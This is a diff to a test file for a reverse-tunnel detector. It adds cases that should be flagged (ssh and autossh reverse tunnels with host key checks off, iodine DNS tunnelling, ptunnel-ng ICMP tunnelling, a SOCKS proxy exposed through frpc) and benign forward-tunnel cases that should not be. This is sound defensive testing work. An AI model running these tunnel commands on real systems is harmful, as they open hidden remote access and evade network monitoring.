@@ -9,8 +9,15 @@ indicatorTable(commandReverseTunnel, {
       'ssh -fN -o StrictHostKeyChecking=no -R 0.0.0.0:2222:localhost:22 t@gw.example.net',
     ),
     'with the option joined': script('autossh -M 0 -oUserKnownHostsFile=/dev/null -NR 9000:web:80 t@gw.example.net'),
+    'a connection that hides in names': script('iodine -f -P secret t1.example.net'),
+    'a connection that hides in pings': runs('ptunnel-ng', '-p', '203.0.113.7', '-lp', '8000'),
+    'a proxy with a way to it': script('microsocks -p 1080 & frpc tcp --server-addr 203.0.113.7 --local-port 1080'),
   },
   staysSilent: {
+    'a proxy for the pod itself': script(
+      'microsocks -i 127.0.0.1 -p 1080 & curl -x socks5://127.0.0.1 https://example.com',
+    ),
+    'a way to a preview': script('frpc tcp --server-addr preview.example.com --local-port 8080'),
     'a chisel server': runs('chisel', 'server', '--port', '8080'),
     'a forward tunnel with chisel': runs('chisel', 'client', 'https://gw.example.com', '5432:db:5432'),
     'a forward tunnel with ssh': script('ssh -o StrictHostKeyChecking=no -NL 5432:db:5432 t@gw.example.com'),
